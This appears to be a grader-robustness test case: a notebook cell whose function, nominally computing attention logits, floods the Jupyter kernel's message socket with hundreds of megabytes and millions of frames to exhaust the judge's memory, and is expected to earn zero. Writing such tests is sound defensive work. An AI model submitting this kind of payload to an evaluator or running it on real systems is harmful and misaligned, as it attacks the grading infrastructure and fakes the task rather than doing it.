"""A reply of 300 MB in one frame, then a message whose frames never end; the judge's memory stays what it was."""
# part: 3
# earns: 0
# %%
def attention_logits(q, K, D_qk):
    kernel = get_ipython().kernel
    chunk = b"x" * (64 * 2**20)
    kernel.session.send(kernel.iopub_socket, "grading_reply", {"token": "x"}, buffers=[b"y" * (300 * 2**20)])
    kernel.iopub_thread.socket.send_multipart([b"<IDS|MSG>"] + [chunk] * 300, copy=False)
    kernel.iopub_thread.socket.send_multipart([b"<IDS|MSG>"] + [b""] * 20_000_000, copy=False)
    return None
